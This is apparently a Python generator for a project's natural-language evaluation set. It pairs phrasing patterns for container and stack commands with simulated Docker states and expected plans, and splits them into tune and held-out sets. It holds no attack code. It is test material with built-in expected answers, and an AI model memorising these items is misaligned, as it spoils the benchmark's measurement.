# ruff: noqa: E501  (the pattern tables: one phrasing list per line reads best)
"""The project's own natural-language evaluation set (issue 14): phrasing patterns × live-state names
× parameters, written the way people type (typos, casing, politeness, terse shell-like forms,
questions, particles, coordination, time windows, parameters in words).

    python -m tests.nlp.eval.generate          # rewrites tests/nlp/eval/cases.yaml (deterministic)
    python -m tests.nlp.eval.generate --check  # exit 1 when cases.yaml is not what this generates

The expected plans follow the plan contract (../shared/docs/plan-contract.md) in the format of the
public corpus (../shared/corpus/nl-commands.yaml; checked by tests/nlp/corpus.py): targets are the
real names of the state the case is parsed against, stacks are `stack` actions, selectors are
expanded (``$running_all`` is the state's own `running_all`), and where a reference matches several
things the plan must ask.

Split, by pattern: the patterns below are the **tune** split; the held-out ones live in
holdout_patterns.py (read it only to score, never to tune). When the set was made, each category's
patterns were ordered by sha256 of their id and the first 30 % (at least one) went to holdout;
issue 14's own example sentences (``issue=True``) are always tune. A new pattern is put in one file
or the other once and stays there; a case's split is its pattern's. On 2026-12-04 the held-out
patterns of that time were read (after their last blind score, 80.3 %) and became the **spent** split
(spent_patterns.py: reported on their own, neither tune nor held out); holdout_patterns.py and
holdout2_patterns.py then received two fresh batches of 111 patterns each, written apart from the parser
by two helpers that read neither it nor the spent patterns. fresh_patterns.py (``FRESH``, ids ``t3-``) is a
further batch of **tune** patterns written the same day by a helper that read neither the parser nor the
held-out or spent patterns; it is tune like the patterns below. fresh2_patterns.py (``FRESH2``, ids ``t4-``,
66 patterns) was written the same way later that day: every other pattern of it is tune, the others
are held out (and stay unread). fresh3_patterns.py (``FRESH3``, ids ``t5-``, 73 patterns, written on
2026-12-05 the same way) is split the same way, and so is fresh4_patterns.py (``FRESH4``, ids ``t6-``, 83 patterns,
written later that day), and fresh5_patterns.py (``FRESH5``, ids ``t7-``, 82 patterns, written the same way on
2026-12-05 in a later session), and fresh6_patterns.py (``FRESH6``, ids ``t8-``, 84 patterns, later that session),
and fresh7_patterns.py (``FRESH7``, ids ``t9-``, 85 patterns, written the same way in the next session), and
fresh8_patterns.py (``FRESH8``, ids ``t10-``, 87 patterns, later that session), and fresh9_patterns.py
(``FRESH9``, ids ``t11-``, 85 patterns, the session after), and fresh10_patterns.py (``FRESH10``, ids ``t12-``,
83 patterns, the session after that), and fresh11_patterns.py (``FRESH11``, ids ``t13-``, 86 patterns, the next session).
"""
from __future__ import annotations

import argparse
import random
import string
import sys
from collections.abc import Sequence
from dataclasses import dataclass
from itertools import combinations
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import yaml

from .kit import (
    ANY,
    ASK,
    CATEGORIES,
    EMPTY,
    LC_VERBS,
    NO_DAMAGE,
    NUMBER_WORDS,
    SAFE_VERBS,
    STACK_VERBS,
    E,
    Pattern,
    ctr,
    each_or_all,
    first,
    hist,
    logs,
    lst,
    port,
    pull,
    rollback,
    run,
    scale,
    slots_map,
    stack_or_containers,
    stack_state,
    status,
    stk,
    tmpl,
    unordered,
    verbs,
    window_s,
)

HERE = Path(__file__).resolve().parent
CASES = HERE / 'cases.yaml'


# ---- the live states -------------------------------------------------------------------------------------

@dataclass(frozen=True)
class StateDef:
    name: str
    description: str
    containers: Sequence[tuple[str, str, bool]]          # plain containers: name, image, running
    stacks: dict[str, dict[str, str]]                    # stack -> service -> image (containers <stack>-<service>-1, running)
    refs: Sequence[tuple[str, str]]                      # a description that means exactly one container
    amb: Sequence[str]                                   # descriptions that match several containers
    typos: Sequence[tuple[str, str]]                     # a misspelt name and the container it means


HOMELAB = StateDef(
    'homelab', 'a home server: media, home automation, photos, documents; three databases, three redis',
    containers=[
        ('pihole', 'pihole/pihole:2024.07.0', True),
        ('jellyfin', 'jellyfin/jellyfin:10.9.11', True),
        ('home-assistant', 'ghcr.io/home-assistant/home-assistant:2024.9', True),
        ('mosquitto', 'eclipse-mosquitto:2.0', True),
        ('uptime-kuma', 'louislam/uptime-kuma:1', True),
        ('zigbee2mqtt', 'koenkk/zigbee2mqtt:1.40', True),
        ('syncthing', 'syncthing/syncthing:1.27', False),
        ('duplicati', 'linuxserver/duplicati:2.0.8', False),
        ('speedtest-tracker', 'linuxserver/speedtest-tracker:0.20', False),
    ],
    stacks={
        'nextcloud': {'app': 'nextcloud:29-apache', 'db': 'mariadb:11.4', 'redis': 'redis:7'},
        'immich': {'server': 'ghcr.io/immich-app/immich-server:v1.115', 'ml': 'ghcr.io/immich-app/immich-machine-learning:v1.115',
                   'db': 'postgres:16', 'redis': 'redis:7'},
        'paperless': {'web': 'ghcr.io/paperless-ngx/paperless-ngx:2.11', 'db': 'postgres:16', 'broker': 'redis:7'},
    },
    refs=[('home assistant', 'home-assistant'), ('mariadb', 'nextcloud-db-1'), ('nextcloud database', 'nextcloud-db-1'),
          ('nextcloud app', 'nextcloud-app-1'), ('immich server', 'immich-server-1'), ('paperless web', 'paperless-web-1'),
          ('paperless broker', 'paperless-broker-1'), ('immich redis', 'immich-redis-1'),
          ('paperless database', 'paperless-db-1'), ('nextcloud redis', 'nextcloud-redis-1')],
    amb=['the database', 'the db', 'redis', 'postgres', 'the redis cache', 'the postgres database'],
    typos=[('jelyfin', 'jellyfin'), ('mosquito', 'mosquitto'), ('syncthng', 'syncthing'), ('duplicaty', 'duplicati'),
           ('zigbee2mqt', 'zigbee2mqtt'), ('pihloe', 'pihole'), ('uptime-kumma', 'uptime-kuma'),
           ('home-asistant', 'home-assistant')],
)

SMALLCO = StateDef(
    'smallco', 'a small company: a shop, a CRM, a blog and monitoring; postgres, mysql and mariadb; two nginx',
    containers=[
        ('traefik', 'traefik:v3.1', True),
        ('mailer', 'acme/mailer:4', True),
        ('vpn', 'linuxserver/wireguard:1.0', True),
        ('adminer', 'adminer:4', True),
        ('docs', 'nginx:1.27', True),
        ('backup', 'acme/backup:1', False),
        ('ci-runner', 'gitea/act_runner:0.2', False),
    ],
    stacks={
        'shop': {'web': 'nginx:1.27', 'api': 'acme/shop-api:2.3', 'db': 'postgres:16', 'cache': 'redis:7',
                 'worker': 'acme/shop-worker:2.3'},
        'crm': {'frontend': 'acme/crm-ui:5', 'backend': 'acme/crm-api:5', 'db': 'mysql:8.0'},
        'blog': {'wordpress': 'wordpress:6.6-apache', 'db': 'mariadb:11.4'},
        'metrics': {'prometheus': 'prom/prometheus:v2.54.1', 'grafana': 'grafana/grafana:11.2.2'},
    },
    refs=[('mysql database', 'crm-db-1'), ('postgres db', 'shop-db-1'), ('mariadb', 'blog-db-1'), ('redis', 'shop-cache-1'),
          ('grafana', 'metrics-grafana-1'), ('prometheus', 'metrics-prometheus-1'), ('wordpress', 'blog-wordpress-1'),
          ('crm backend', 'crm-backend-1'), ('shop worker', 'shop-worker-1'), ('wireguard vpn', 'vpn'),
          ('crm frontend', 'crm-frontend-1'), ('blog database', 'blog-db-1')],
    amb=['the database', 'the db', 'nginx', 'the web server', 'the db container', 'the database server'],
    typos=[('treafik', 'traefik'), ('mailler', 'mailer'), ('adminr', 'adminer'), ('bakup', 'backup'),
           ('ci-runer', 'ci-runner'), ('shop-wrker-1', 'shop-worker-1')],
)

FLEET_STACKS = {
    'shop': {'web': 'nginx:1.27', 'api': 'acme/shop-api:2', 'db': 'postgres:16', 'cache': 'redis:7',
             'worker': 'acme/shop-worker:2', 'mailer': 'acme/mailer:1'},
    'shop-staging': {'web': 'nginx:1.27', 'api': 'acme/shop-api:3-rc', 'db': 'postgres:16'},
    'payments': {'api': 'acme/payments:5', 'db': 'postgres:16', 'queue': 'rabbitmq:3.13'},
    'auth': {'keycloak': 'quay.io/keycloak/keycloak:25.0', 'db': 'postgres:16'},
    'search': {'api': 'acme/search:3', 'elastic': 'elasticsearch:8.15', 'kibana': 'kibana:8.15'},
    'metrics': {'prometheus': 'prom/prometheus:v2.54.1', 'grafana': 'grafana/grafana:11.2.2',
                'alertmanager': 'prom/alertmanager:0.27', 'node': 'prom/node-exporter:1.8'},
    'chat': {'server': 'acme/chat:1', 'db': 'mongo:7.0', 'cache': 'redis:7', 'proxy': 'traefik:v3.1'},
    'git': {'gitea': 'gitea/gitea:1.22', 'db': 'postgres:16', 'runner': 'gitea/act_runner:0.2'},
    'media': {'jellyfin': 'jellyfin/jellyfin:10.9.11', 'sonarr': 'linuxserver/sonarr:4', 'radarr': 'linuxserver/radarr:5'},
    'analytics': {'clickhouse': 'clickhouse/clickhouse-server:24.8', 'api': 'acme/analytics-api:1', 'web': 'acme/analytics-ui:1'},
    'billing': {'api': 'acme/billing:2', 'worker': 'acme/billing-worker:2', 'db': 'mysql:8.0'},
}
FLEET_PLAIN = {'web': 'nginx:1.27', 'worker': 'acme/worker:1', 'cache': 'redis:7', 'job': 'acme/batch:4',
               'proxy': 'traefik:v3.1', 'api': 'acme/api:3', 'db': 'postgres:16', 'runner': 'acme/runner:2',
               'cron': 'acme/cron:1', 'tool': 'alpine:3.20'}

FLEET = StateDef(
    'fleet', '107 containers: 11 stacks (shop and shop-staging share service names) and 70 numbered plain containers',
    containers=[(f'{kind}-{n:02d}', image, (i * 7 + n) % 10 not in (3, 8))
                for i, (kind, image) in enumerate(FLEET_PLAIN.items()) for n in range(1, 8)],
    stacks=FLEET_STACKS,
    refs=[('kibana', 'search-kibana-1'), ('elasticsearch', 'search-elastic-1'), ('clickhouse', 'analytics-clickhouse-1'),
          ('rabbitmq', 'payments-queue-1'), ('mongo db', 'chat-db-1'), ('gitea', 'git-gitea-1'), ('sonarr', 'media-sonarr-1'),
          ('radarr', 'media-radarr-1'), ('alertmanager', 'metrics-alertmanager-1'), ('billing database', 'billing-db-1'),
          ('payments queue', 'payments-queue-1'), ('keycloak', 'auth-keycloak-1'), ('mysql database', 'billing-db-1')],
    amb=['web', 'the api', 'the db', 'redis', 'the cache', 'worker', 'the database', 'postgres', 'the proxy', 'the runner'],
    typos=[('worker-3', 'worker-03'), ('cron-5', 'cron-05'), ('payments-api1', 'payments-api-1'), ('shop-wbe-1', 'shop-web-1'),
           ('billing-wroker-1', 'billing-worker-1'), ('search-kibnaa-1', 'search-kibana-1'), ('tool-7', 'tool-07')],
)

STATES: dict[str, StateDef] = {s.name: s for s in (HOMELAB, SMALLCO, FLEET)}


# ---- slot fillers ---------------------------------------------------------------------------------------

@dataclass(frozen=True)
class Svc:
    stack: str
    service: str
    name: str


@dataclass(frozen=True)
class Pair:
    stack: str
    a: str
    b: str
    na: str
    nb: str


@dataclass(frozen=True)
class Trio:
    """Three services of one stack and their containers (batch n8)."""
    stack: str
    a: str
    b: str
    c: str
    na: str
    nb: str
    nc: str


@dataclass(frozen=True)
class Group:
    """A stack and how many containers it has, as a number, as a word and as "all of them" ("both", "all three") (batch n8)."""
    stack: str
    n: int
    word: str
    all: str


@dataclass(frozen=True)
class Ref:
    text: str
    name: str


@dataclass(frozen=True)
class Tm:
    ids: tuple[str, ...]
    say: str

    @property
    def id(self) -> str:
        return self.ids[0]


@dataclass(frozen=True)
class Img:
    say: str
    prefix: str
    cport: int


@dataclass(frozen=True)
class Num:
    n: int
    word: str


@dataclass(frozen=True)
class Repo:
    say: str
    repo: str


TEMPLATE_SAY: dict[str, Sequence[str]] = {
    'ghost': ['ghost', 'Ghost'], 'gitea': ['gitea', 'Gitea'], 'jellyfin': ['jellyfin', 'Jellyfin'],
    'keycloak': ['keycloak', 'Keycloak'], 'minio': ['minio', 'MinIO'], 'mongo-express': ['mongo express', 'mongo-express'],
    'mysql-phpmyadmin': ['mysql with phpmyadmin', 'phpmyadmin'], 'n8n': ['n8n'], 'nextcloud': ['nextcloud', 'Nextcloud'],
    'node-red': ['node-red', 'node red', 'Node-RED'], 'pihole': ['pihole', 'pi-hole', 'Pi-hole'],
    'postgres-pgadmin': ['postgres with pgadmin', 'pgadmin'], 'prometheus-grafana': ['prometheus and grafana', 'grafana + prometheus'],
    'rabbitmq': ['rabbitmq', 'RabbitMQ'], 'traefik': ['traefik', 'Traefik'],
    'uptime-kuma': ['uptime kuma', 'uptime-kuma', 'Uptime Kuma'], 'vaultwarden': ['vaultwarden', 'Vaultwarden'],
    'wikijs': ['wiki.js', 'wikijs', 'Wiki.js'], 'wordpress': ['wordpress', 'WordPress'],
}
PURPOSES: Sequence[tuple[str, tuple[str, ...]]] = [
    ('password manager', ('vaultwarden',)), ('git server', ('gitea',)), ('media server', ('jellyfin',)),
    ('ad blocker', ('pihole',)), ('dns sinkhole', ('pihole',)), ('team wiki', ('wikijs',)), ('message queue', ('rabbitmq',)),
    ('s3 compatible object storage', ('minio',)), ('reverse proxy', ('traefik',)), ('status page', ('uptime-kuma',)),
    ('uptime monitor', ('uptime-kuma',)), ('single sign-on server', ('keycloak',)), ('dropbox alternative', ('nextcloud',)),
    ('metrics dashboard', ('prometheus-grafana',)), ('zapier alternative', ('n8n',)), ('blog', ('wordpress', 'ghost')),
]
RUN_IMAGES = [Img('nginx', 'nginx', 80), Img('httpd', 'httpd', 80), Img('apache httpd', 'httpd', 80), Img('caddy', 'caddy', 80),
              Img('traefik/whoami', 'traefik/whoami', 80), Img('nginx:1.27-alpine', 'nginx:1.27-alpine', 80),
              Img('adminer', 'adminer', 8080)]
DB_REPOS = {'postgres', 'mysql', 'mariadb', 'mongo', 'redis', 'clickhouse-server', 'elasticsearch', 'rabbitmq'}
# batch n9: templates asked for by what they do ({n9_need.say}); like PURPOSES, only where no live name is the template's id
N9_NEEDS: Sequence[tuple[str, tuple[str, ...]]] = [
    ('something to keep passwords safe in', ('vaultwarden',)), ('a place where everyone can share files', ('nextcloud',)),
    ('a self-hosted git server', ('gitea',)), ('monitoring with nice graphs', ('prometheus-grafana',)),
    ('a wiki for notes and how-tos', ('wikijs',)), ('one login for all our apps', ('keycloak',)), ('s3-style storage for backups', ('minio',)),
    ('a zapier-style automation tool', ('n8n',)), ('a postgres database with a browser admin page', ('postgres-pgadmin',)),
    ('a mysql database with a web admin page', ('mysql-phpmyadmin',)), ('something that blocks ads on every device', ('pihole',)),
    ('something that warns when a website goes down', ('uptime-kuma',)), ('a netflix-style server for movies', ('jellyfin',)),
    ('a newsletter site', ('ghost',)),
]
GHOSTS = ['frobnicator', 'zeppelin', 'legacy-app', 'quux-server', 'oldjenkins', 'teamspeak']

PARAMS: dict[str, Sequence[Any]] = {
    'n': [2, 3, 4, 5],
    'nw': [Num(n, w) for n, w in NUMBER_WORDS.items() if n <= 5],
    'tail': [10, 20, 25, 50, 100, 200, 500],
    'mins': [5, 10, 15, 20, 30, 45],
    'hours': [2, 3, 4, 6, 12],
    'port': [3001, 3300, 5050, 7000, 8081, 8088, 8222, 8443, 8765, 9000, 9443, 10080],
    'pw': ['s3cret', 'hunter2', 'Tr0ub4dor', 'changeme42', 'pa55word', 'xK9mq2z', 'letmein77', 'correct-horse'],
    'user': ['alice', 'bob', 'app', 'shopuser', 'wiki', 'admin2'],
    'dbname': ['shop', 'inventory', 'wiki', 'app_prod', 'analytics', 'orders'],
    'newname': ['sessions', 'test-app', 'scratch', 'cache-test', 'dev-db-2', 'demo-1', 'edge'],
    'newstack': ['team-wiki', 'home-git', 'notes', 'ops-vault', 'blog2', 'files2', 'sso'],
    'word': ['error', 'timeout', 'warn', 'exception', 'refused', 'panic', 'fatal'],
    'ghost': GHOSTS,
    # numbers said as words (voice-dictated text): {tw.word} lines, {mw.word} minutes, {hw.word} hours, port {portw.word}
    'tw': [Num(10, 'ten'), Num(20, 'twenty'), Num(25, 'twenty five'), Num(50, 'fifty'), Num(100, 'one hundred'), Num(200, 'two hundred')],
    'mw': [Num(5, 'five'), Num(10, 'ten'), Num(15, 'fifteen'), Num(20, 'twenty'), Num(30, 'thirty'), Num(45, 'forty five')],
    'hw': [Num(2, 'two'), Num(3, 'three'), Num(4, 'four'), Num(6, 'six'), Num(12, 'twelve')],
    'portw': [Num(8081, 'eighty eighty one'), Num(9000, 'nine thousand'), Num(3001, 'three thousand one'),
              Num(8443, 'eighty four forty three'), Num(5050, 'fifty fifty'), Num(7000, 'seven thousand'),
              Num(8088, 'eighty eighty eight')],
    # chat voice (batch n6): an emoji and a grumble people put around a request
    'n6_emo': ['🙏', '😅', '🔥', '👀', '🙃', '😭'],
    'n6_meh': ['ugh', 'smh', 'welp', 'bruh'],
    # finding things out (batch n9): the newest image of a repository as said, days of logs, strings searched for in logs
    'n9_img': [Repo('grafana', 'grafana/grafana'), Repo('postgres', 'postgres'), Repo('redis', 'redis'), Repo('nginx', 'nginx'),
               Repo('mariadb', 'mariadb'), Repo('alpine', 'alpine'), Repo('traefik', 'traefik')],
    'n9_days': [2, 3, 4, 5],
    'n9_needle': ['req-7f3a9c', 'ECONNREFUSED', 'OOMKilled', '/api/checkout', 'order-55213', 'SIGTERM', 'user_4821'],
}


def _repo(image: str) -> str:
    name = image.split('@', 1)[0]
    last = name.rsplit('/', 1)[-1]
    return last.split(':', 1)[0]


class World:
    """A state's names in the pools the slots draw from."""

    def __init__(self, sd: StateDef) -> None:
        self.sd = sd
        self.plain = [c[0] for c in sd.containers]
        self.image = {c[0]: c[1] for c in sd.containers}
        self.running = {c[0]: c[2] for c in sd.containers}
        self.services: list[Svc] = []
        self.members: dict[str, list[str]] = {}
        for stack, services in sd.stacks.items():
            for service, image in services.items():
                name = f'{stack}-{service}-1'
                self.services.append(Svc(stack, service, name))
                self.members.setdefault(stack, []).append(name)
                self.image[name] = image
                self.running[name] = True
        self.gen = [s.name for s in self.services]
        self.names = self.plain + self.gen
        self.running_all = [n for n in self.names if self.running[n]]
        self.stopped = [n for n in self.names if not self.running[n]]
        self.stacks = list(sd.stacks)
        taken = set(self.names) | set(self.stacks)
        # a container as said aloud (voice-dictated text): plain names without digits, dashes as spaces, then one
        # description per container the state has a unique one for; every entry means a different container
        self.spoken = [Ref(n.replace('-', ' '), n) for n in self.plain if not any(ch.isdigit() for ch in n)]
        for text, name in sd.refs:
            if name not in {r.name for r in self.spoken}:
                self.spoken.append(Ref(text, name))
        self.templates = [Tm((tid,), say) for tid, says in TEMPLATE_SAY.items() if tid not in taken for say in says]
        self.purposes = [Tm(ids, say) for say, ids in PURPOSES if not set(ids) & taken]
        self.needs = [Tm(ids, say) for say, ids in N9_NEEDS if not set(ids) & taken]
        self.pools: dict[str, Sequence[Any]] = {
            'c': self.names, 'p': self.plain, 'gen': self.gen, 'cr': self.running_all, 'cx': self.stopped,
            'st': self.stacks, 'sv': self.services,
            'svs': [s for s in self.services if _repo(self.image[s.name]) not in DB_REPOS],
            'pair': [Pair(a.stack, a.service, b.service, a.name, b.name) for a in self.services for b in self.services
                     if a.stack == b.stack and a.service < b.service],
            'ref': [Ref(t, n) for t, n in sd.refs], 'amb': list(sd.amb), 'typo': [Ref(t, n) for t, n in sd.typos],
            'spk': self.spoken,
            'tm': self.templates, 'pu': self.purposes, 'n9_need': self.needs,
            'img': [i for i in RUN_IMAGES if i.say not in taken],
            # batch n8: three services of one stack, a stack with its container count, two scalable services of one stack
            'n8_trio': [Trio(st, *(v.service for v in t), *(v.name for v in t)) for st in self.stacks
                        for t in combinations([v for v in self.services if v.stack == st], 3)],
            'n8_grp': [Group(st, len(m), NUMBER_WORDS[len(m)], 'both' if len(m) == 2 else f'all {NUMBER_WORDS[len(m)]}')
                       for st, m in self.members.items()],
            'n8_spair': [Pair(a.stack, a.service, b.service, a.name, b.name) for a in self.services for b in self.services
                         if a.stack == b.stack and a.service < b.service
                         and not {_repo(self.image[a.name]), _repo(self.image[b.name])} & DB_REPOS],
            **PARAMS,
        }

    def yaml_state(self) -> dict[str, Any]:
        return {'description': self.sd.description,
                'containers': [{'name': n, 'image': i, 'running': r} for n, i, r in self.sd.containers],
                'stacks': {k: dict(v) for k, v in self.sd.stacks.items()},
                'running_all': list(self.running_all)}


WORLDS = {name: World(sd) for name, sd in STATES.items()}


def _roots(phrasing: str) -> list[str]:
    out = []
    for _, field_name, _, _ in string.Formatter().parse(phrasing):
        if field_name:
            root = field_name.split('.', 1)[0].split('[', 1)[0]
            if root not in out:
                out.append(root)
    return out


def _kind(root: str) -> str:
    return root.rstrip('0123456789')


class Unfillable(Exception):
    pass


def fill(pattern: Pattern, phrasing: str, extra: dict[str, Any], world: World, rng: random.Random) -> SimpleNamespace:
    values: dict[str, Any] = {}
    if pattern.rows:
        values.update(rng.choice(list(pattern.rows)))
    values.update(extra)
    used: dict[str, set[Any]] = {}
    for root in _roots(phrasing):
        if root in values:
            continue
        kind = _kind(root)
        pool = [v for v in world.pools.get(kind, ()) if v not in used.get(kind, set())]
        if kind not in world.pools:
            raise KeyError(f'pattern {pattern.id}: no pool for slot {{{root}}}')
        if not pool:
            raise Unfillable(root)
        value = rng.choice(pool)
        used.setdefault(kind, set()).add(value)
        values[root] = value
    return SimpleNamespace(w=world, **values)


def _surface(text: str, pattern: Pattern, rng: random.Random) -> str:
    text = ' '.join(text.split())
    if pattern.case == 'upper':
        return text.upper()
    if pattern.case == 'title':
        return ' '.join(w[:1].upper() + w[1:] for w in text.split(' '))
    if pattern.case is None and rng.random() < 0.25:
        return text[:1].upper() + text[1:]
    return text


def generate(patterns: Sequence[Pattern], split_of: dict[str, str]) -> list[dict[str, Any]]:
    cases: list[dict[str, Any]] = []
    seen: set[tuple[str, str]] = set()
    for pattern in patterns:
        if pattern.category not in CATEGORIES:
            raise ValueError(f'{pattern.id}: unknown category {pattern.category}')
        states = list(pattern.states or WORLDS)
        phrasings = [p if isinstance(p, tuple) else (p, {}) for p in pattern.phrasings]
        made = 0
        for k in range(pattern.count * 6):
            if made == pattern.count:
                break
            phrasing, extra = phrasings[k % len(phrasings)]          # every phrasing first, then again
            state = states[(k % len(phrasings) + k // len(phrasings)) % len(states)]  # shifted by one each round
            rng = random.Random(f'{pattern.id}:{k}')
            try:
                slots = fill(pattern, phrasing, extra, WORLDS[state], rng)
            except Unfillable:
                continue
            cmd = _surface(phrasing.format(**vars(slots)), pattern, rng)
            if (state, cmd.lower()) in seen:
                continue
            seen.add((state, cmd.lower()))
            made += 1
            case = {'id': f'{pattern.id}-{made:02d}', 'pattern': pattern.id, 'category': pattern.category,
                    'split': split_of[pattern.id], 'state': state, 'cmd': cmd}
            case.update(pattern.expect(slots))
            cases.append(case)
        if made < pattern.count:
            raise ValueError(f'{pattern.id}: only {made} distinct cases of {pattern.count}')
    return cases


# ---- the tune patterns ---------------------------------------------------------------------------------
TUNE: list[Pattern] = [
    # ---- issue 14's own sentences, written our way (always tune) ----
    Pattern('issue-and-kept', 'coordination', [('stop {gen} and {gen2}', {'op': 'stop'}),
                                               ('restart {p} and {p2}', {'op': 'restart'})],
            lambda s: each_or_all(s.op, [first(s, 'gen', 'p'), first(s, 'gen2', 'p2')]), issue=True, count=6),
    Pattern('issue-take-down', 'phrasal', [('take the {st} stack down', {'ops': ('stop', 'remove')}),
                                           ('shut the {st} stack off', {'ops': ('stop',)})],
            lambda s: ANY(*[[stk(op, s.st)] for op in s.ops]), issue=True, count=6),
    Pattern('issue-bring-back-up', 'phrasal', ['bring the {st} stack back up'],
            lambda s: ANY([stk('start', s.st)], [stk('restart', s.st)], [stk('redeploy', s.st)]), issue=True, count=5),
    Pattern('issue-is-stack-up', 'question', ['is {st} up?'],
            lambda s: stack_state(s.st, s.w.members[s.st]), issue=True, count=5),
    Pattern('issue-ports', 'question', ['what ports is {c} using'], lambda s: E(status(s.c)), issue=True, count=5),
    Pattern('issue-memory', 'question', ['how much memory does {c} use'], lambda s: E(status(s.c)), issue=True, count=5),
    Pattern('issue-log-window', 'logs', ['what did {gen} log in the last {mins} minutes'],
            lambda s: E(logs(s.gen, since_s=s.mins * 60)), issue=True, count=6),
    Pattern('issue-template-port', 'params', ['deploy {tm.say} on port {port}'],
            lambda s: E(tmpl(s.tm.id, port=s.port)), issue=True, count=6),
    Pattern('issue-mysql-root', 'params', ['a mysql 8 container with root password {pw}',
                                           'run a mysql 8 container with root password {pw}'],
            lambda s: E(run(image_prefix='mysql:8', env={'MYSQL_ROOT_PASSWORD': s.pw})), issue=True, count=5),
    Pattern('issue-scale-count', 'scale', ['run {n} instances of the {svs.stack} {svs.service} service',
                                           'run {n} copies of the {svs.stack} {svs.service} service'],
            lambda s: E(scale(s.svs.stack, s.svs.service, s.n)), issue=True, count=6),
    Pattern('issue-ask-database', 'ask', ['stop the database'], lambda s: ASK(), issue=True, count=3),

    # ---- lifecycle ----
    Pattern('lc-terse', 'lifecycle', ['{v} {c}'], lambda s: E(ctr(s.op, s.c)), rows=LC_VERBS, count=9),
    Pattern('lc-container-word', 'lifecycle', ['{v} the {c} container', '{v} container {c}', '{v} the container called {c}'],
            lambda s: E(ctr(s.op, s.c)), rows=LC_VERBS, count=8),
    Pattern('lc-typo-verb', 'lifecycle', ['{v} {c}'], lambda s: E(ctr(s.op, s.c)),
            rows=verbs('restatr=restart', 'resart=restart', 'rsetart=restart', 'stpo=stop', 'sotp=stop', 'strat=start',
                        'satrt=start', 'puase=pause', 'unpasue=unpause'), count=8),
    Pattern('lc-typo-name', 'lifecycle', ['{v} {typo.text}', '{v} the {typo.text} container'],
            lambda s: E(ctr(s.op, s.typo.name)), rows=SAFE_VERBS, count=7),
    Pattern('lc-title', 'lifecycle', ['{v} {c}', '{v} {ref.text}'],
            lambda s: E(ctr(s.op, s.ref.name if hasattr(s, 'ref') else s.c)), rows=SAFE_VERBS, case='title', count=6),
    Pattern('lc-stack-service', 'lifecycle', ['{v} the {sv.stack} {sv.service}', "{v} {sv.stack}'s {sv.service}",
                                              '{v} the {sv.service} of {sv.stack}', '{v} the {sv.service} in the {sv.stack} stack',
                                              '{v} the {sv.service} service of the {sv.stack} stack'],
            lambda s: E(ctr(s.op, s.sv.name)), rows=verbs('restart', 'stop', 'start', 'pause', 'unpause'), count=9),
    Pattern('lc-needs-restart', 'lifecycle', ['{c} needs a restart', '{c} is stuck, restart it', 'give {c} a restart',
                                              'I want {c} restarted', '{c} is hanging - can you reboot it?',
                                              'get {c} restarted'],
            lambda s: E(ctr('restart', s.c)), count=7),
    Pattern('lc-start-indirect', 'lifecycle', [('{cx} is down, start it', {'ops': ('start',)}),
                                               ("{cx} isn't running, can you start it", {'ops': ('start',)}),
                                               ('get {cx} running again', {'ops': ('start', 'restart')}),
                                               ('please get {cx} started', {'ops': ('start',)})],
            lambda s: ANY(*[[ctr(op, s.cx)] for op in s.ops]), count=7),
    Pattern('lc-remove', 'lifecycle', ['remove {cx}', 'delete the {cx} container', 'get rid of {cx}', 'rm {cx}',
                                       'throw away the {cx} container'],
            lambda s: E(ctr('remove', s.cx)), count=6),

    Pattern('lc-stop-indirect', 'lifecycle', ['{c} should not be running, stop it', "I don't need {c} right now, stop it",
                                              'make {c} stop', '{c} can be stopped now'],
            lambda s: E(ctr('stop', s.c)), count=6),
    Pattern('lc-freeze', 'lifecycle', [('freeze {c}', {'op': 'pause'}), ('suspend {c}', {'op': 'pause'}),
                                       ('unfreeze {c}', {'op': 'unpause'}), ('thaw {c}', {'op': 'unpause'})],
            lambda s: E(ctr(s.op, s.c)), count=6),
    # ---- stacks ----
    Pattern('st-op', 'stack', ['{v} the {st} stack', '{v} stack {st}', '{v} {st} stack'],
            lambda s: E(stk(s.op, s.st)), rows=STACK_VERBS, count=9),
    Pattern('st-everything-in', 'stack', ['{v} the whole {st} stack', '{v} all of {st}', '{v} everything in {st}',
                                          '{v} every container in the {st} stack'],
            lambda s: stack_or_containers(s.op, s.st, s.w.members[s.st]), rows=verbs('restart', 'stop', 'start'), count=7),
    Pattern('st-redeploy', 'stack', ['redeploy {st}', 're-deploy the {st} stack', 'recreate {st}',
                                     'recreate the {st} containers', 'do a fresh deploy of {st}'],
            lambda s: E(stk('redeploy', s.st)), count=7),
    Pattern('st-pull-redeploy', 'stack', ['pull and redeploy {st}', 'pull the new images of {st}, then redeploy it',
                                          "update {st}'s images and recreate it"],
            lambda s: E(stk('pull', s.st), stk('redeploy', s.st)), count=6),
    Pattern('st-remove', 'stack', ['delete the {st} stack', 'remove stack {st} completely', 'destroy {st}',
                                   'nuke the {st} stack'],
            lambda s: E(stk('remove', s.st)), count=6),

    Pattern('st-switch-off', 'stack', ['switch the {st} stack off', 'turn off the {st} stack', 'power down the {st} stack'],
            lambda s: stack_or_containers('stop', s.st, s.w.members[s.st]), count=6),
    # ---- phrasal verbs ----
    Pattern('ph-shut-off', 'phrasal', ['shut off {c}', 'shut {c} off', 'shut down {c}', 'shut {c} down please'],
            lambda s: E(ctr('stop', s.c)), count=7),
    Pattern('ph-shut-stack', 'phrasal', ['shut the {st} stack down', 'shut down the {st} stack', 'shut off everything in {st}'],
            lambda s: stack_or_containers('stop', s.st, s.w.members[s.st]), count=6),
    Pattern('ph-bring-back-up', 'phrasal', ['bring {st} back up', 'bring {st} back online', 'bring the {st} stack up again'],
            lambda s: ANY([stk('start', s.st)], [stk('restart', s.st)], [stk('redeploy', s.st)]), count=6),
    Pattern('ph-bring-ctr-up', 'phrasal', ['bring {cx} back up', 'bring {cx} up', 'bring up {cx}', 'bring {cx} back'],
            lambda s: ANY([ctr('start', s.cx)], [ctr('restart', s.cx)]), count=7),
    Pattern('ph-spin-up', 'phrasal', ['spin up {cx}', 'spin {cx} up', 'fire up {cx}', 'fire {cx} up', 'boot up {cx}'],
            lambda s: E(ctr('start', s.cx)), count=7),
    Pattern('ph-kill-off', 'phrasal', ['kill off {c}', 'kill {c} off', 'finish off {c}'],
            lambda s: ANY([ctr('kill', s.c)], [ctr('stop', s.c)]), count=6),
    Pattern('ph-tear-down', 'phrasal', ['tear down the {st} stack', 'tear {st} down', 'tear down {st} completely'],
            lambda s: ANY([stk('remove', s.st)], [stk('stop', s.st)]), count=6),
    Pattern('ph-stack-spin-up', 'phrasal', ['spin up the {st} stack', 'fire up {st}', 'bring up the {st} stack',
                                            'start {st} back up'],
            lambda s: ANY([stk('start', s.st)], [stk('redeploy', s.st)]), count=6),
